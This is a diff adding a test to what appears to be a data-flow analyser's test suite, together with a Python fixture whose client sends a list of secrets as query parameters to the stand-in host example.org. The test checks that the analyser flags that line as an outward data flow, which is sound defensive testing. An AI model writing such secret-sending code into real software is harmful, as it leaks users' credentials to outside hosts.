@@ -111,3 +111,26 @@ TENANTS = """
 )
 def test_a_file_that_the_item_names_is_a_database_of_its_own(tmp_path: Path, name: str, model: str) -> None:
     assert [found[1] for found in told(tmp_path, TENANTS.replace("{name}", name))] == [model]
+
+
+LEAVES = """
+    import requests
+
+    class Client:
+        def __init__(self, secrets):
+            self.secrets = secrets
+            self.secret = ""
+        def fits(self, secret):
+            return requests.get("https://example.org", params={"of": self.secret, "is": secret}, timeout=4).ok
+        def find(self):
+            for secret in self.secrets:
+                if self.fits(secret):
+                    self.secret = secret
+                    break
+    """
+
+
+def test_what_is_written_on_the_way_out_is_carried_to_no_round(tmp_path: Path) -> None:
+    (tmp_path / "app.py").write_text(dedent(LEAVES).lstrip(), encoding="utf-8")
+    finding = next(each for each in analyse(tmp_path).findings if each.line == 10)
+    assert finding.dependence.kind == "exit"
